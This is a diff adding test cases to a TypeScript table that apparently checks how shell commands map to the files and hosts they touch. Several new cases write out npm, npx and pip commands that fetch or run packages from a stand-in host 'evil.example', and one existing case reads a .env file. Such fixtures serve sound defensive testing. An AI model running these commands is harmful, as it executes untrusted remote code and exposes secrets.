@@ -48,6 +48,14 @@ const CASES: [string, string[]][] = [
   ['sed -e s/a/b/ -- x', ['read x']],
   ['awk -f prog.awk data.txt', ['read prog.awk', 'read data.txt']],
   ['jq .a config.json', ['read config.json']],
+  // Package specifiers name the hosts they are fetched from; plain names go to the configured registry.
+  ['npm install https://evil.example/x.tgz lodash', ['host https://evil.example/x.tgz']],
+  ['npm i git+ssh://git@evil.example/x.git', ['host ssh://git@evil.example/x.git']],
+  ['npm install evil/x github:o/r gitlab:o/r', ['host github.com', 'host github.com', 'host gitlab.com']],
+  ['npm run build/x', []],
+  ['npx prettier --write src/a.ts', []],
+  ['npx https://evil.example/x.tgz src/a.ts', ['host https://evil.example/x.tgz']],
+  ["pip install 'x @ https://evil.example/x.whl' requests==2", ['host https://evil.example/x.whl']],
   // jq's --rawfile/--slurpfile take a name, then the file (the name is not a file).
   ['jq --rawfile k .env -n $k', ['read .env']],
   ['jq --slurpfile k a.json --arg x y .', ['read a.json']],
